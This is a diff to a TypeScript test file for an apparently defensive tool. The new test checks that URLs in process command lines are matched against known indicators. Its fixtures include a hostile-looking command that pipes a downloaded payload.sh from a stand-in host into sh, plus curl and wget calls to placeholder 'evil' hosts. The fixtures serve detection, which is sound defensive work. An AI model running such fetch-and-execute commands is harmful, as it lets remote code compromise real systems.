@@ -4,7 +4,8 @@ import { IocMatcher } from '@harrier/schema';
 import { HitLimiter } from '../intel/hit-limiter.ts';
 import { defaultPolicy } from '../policy.ts';
 import { FixtureTree } from '../test-support/fixture-tree.ts';
-import { ConnectionIocCollector, matchObservation } from './connection-ioc-collector.ts';
+import { makeEvent } from './collector.ts';
+import { ConnectionIocCollector, matchObservation, urlsIn } from './connection-ioc-collector.ts';
 import { UserResolver } from './user-resolver.ts';
 
 const HOUR = 3600_000;
@@ -143,5 +144,45 @@ describe('connections to indicators from /proc/net', () => {
       () => new IocMatcher([]),
     );
     assert.deepEqual(await c.collect({ now: new Date(), policy: defaultPolicy() }), []);
+  });
+
+  it('matches the URLs and hosts in the command lines of new processes', () => {
+    assert.deepEqual(
+      urlsIn("sh -c 'curl -fsSL http://drop.example/payload.sh|sh' ; wget https://[2001:db8::bad]/x"),
+      ['http://drop.example/payload.sh', 'https://[2001:db8::bad]/x'],
+    );
+    const c = new ConnectionIocCollector(t.root, new UserResolver(t.root), () => matcher);
+    const now = new Date('2026-11-23T10:00:00Z');
+    const proc = (cmd: string) =>
+      makeEvent({
+        type: 'process_start',
+        ts: now,
+        logsource: { product: 'linux', category: 'process_creation' },
+        fields: { Image: '/usr/bin/curl', ProcessId: 99, CommandLine: cmd, User: 'bob' },
+      });
+    const hits = c.fromProcessEvents(
+      [
+        proc('curl -o /tmp/p http://drop.example/payload.sh'),
+        proc('curl https://cdn.evil.example/a'),
+        proc('wget http://[2001:db8::bad]/x'),
+        proc('curl https://harmless.example/'),
+      ],
+      now,
+    );
+    assert.deepEqual(
+      hits.map((e) => [
+        e.fields['IocId'],
+        e.fields['Url'],
+        e.fields['DestinationHostname'] ?? e.fields['DestinationIp'],
+      ]),
+      [
+        ['url', 'http://drop.example/payload.sh', 'drop.example'],
+        ['dom', 'https://cdn.evil.example/a', 'cdn.evil.example'],
+        ['ip6', 'http://[2001:db8::bad]/x', '2001:db8::bad'],
+      ],
+    );
+    assert.equal(hits[0]!.fields['ProcessId'], 99);
+    assert.equal(hits[0]!.fields['Image'], '/usr/bin/curl');
+    assert.deepEqual(c.fromProcessEvents([proc('curl https://cdn.evil.example/a')], now), [], 'once an hour');
   });
 });
